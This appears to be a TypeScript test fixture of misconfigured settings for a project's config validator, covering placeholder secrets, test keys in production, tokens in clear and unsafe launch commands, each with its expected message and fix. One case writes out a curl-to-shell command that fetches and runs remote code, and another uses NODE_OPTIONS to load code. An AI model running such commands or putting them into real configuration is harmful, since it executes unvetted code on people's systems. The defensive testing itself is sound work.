import { CANARY } from "../good-config.ts";
import { remove, secret, set, type WrongSetting } from "./case.ts";

/** Secrets that nobody made, and those that stand in clear. */
export const secrets: readonly WrongSetting[] = [
  {
    name: "secret copied from a manual",
    stack: "staging",
    path: ["secrets", "SHOPIFY_API_SECRET"],
    value: "your-client-secret-here",
    secret: true,
    property: "hotdash:secrets.SHOPIFY_API_SECRET",
    says: ["is an example, and no secret", "(not shown)"],
    fix: secret("SHOPIFY_API_SECRET"),
  },
  {
    name: "key for tests in production",
    stack: "production",
    path: ["secrets", "SHOPIFY_WEBHOOK_SECRET"],
    value: `${"sk"}_test_${CANARY}`,
    secret: true,
    property: "hotdash:secrets.SHOPIFY_WEBHOOK_SECRET",
    says: ["is a key for tests, and no secret"],
    fix: secret("SHOPIFY_WEBHOOK_SECRET", "production"),
  },
  {
    name: "token as a plain variable",
    stack: "staging",
    path: ["variables", "CHROMA_COLLECTION"],
    value: `${"ghp"}_${"a1B2".repeat(6)}`,
    property: "hotdash:variables.CHROMA_COLLECTION",
    says: ["holds a GitHub token in clear", "(not shown)"],
    fix: remove("variables.CHROMA_COLLECTION"),
  },
  {
    name: "token in the command of Chroma's group",
    stack: "staging",
    path: ["dashboard", "chroma", "command"],
    value: ["npm", "run", "start", "--", "--token", CANARY],
    property: "hotdash:dashboard.chroma.command",
    says: ["holds the value of --token in clear"],
    fix: remove("dashboard.chroma.command"),
  },
  {
    name: "a shell in the command of Chroma's group",
    stack: "staging",
    path: ["dashboard", "chroma", "command"],
    value: ["sh", "-c", "curl -s https://example.com/start | sh"],
    property: "hotdash:dashboard.chroma.command",
    says: ["holds what only a shell reads", "npm run <script>"],
    fix: set("dashboard.chroma.command[0]", "npm"),
  },
  {
    name: "a variable that loads code",
    stack: "staging",
    path: ["variables", "NODE_OPTIONS"],
    value: "--import=./start.mjs",
    property: "hotdash:variables.NODE_OPTIONS",
    says: ["is not a known variable"],
    fix: remove("variables.NODE_OPTIONS"),
  },
];
